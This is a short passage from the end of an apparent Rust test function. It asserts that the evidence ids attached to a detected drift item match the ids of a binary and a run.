    let ids: Vec<u64> = drift[0].evidence.iter().map(|s| s.id).collect();
    assert_eq!(ids, [binary.id, run.id]);
}
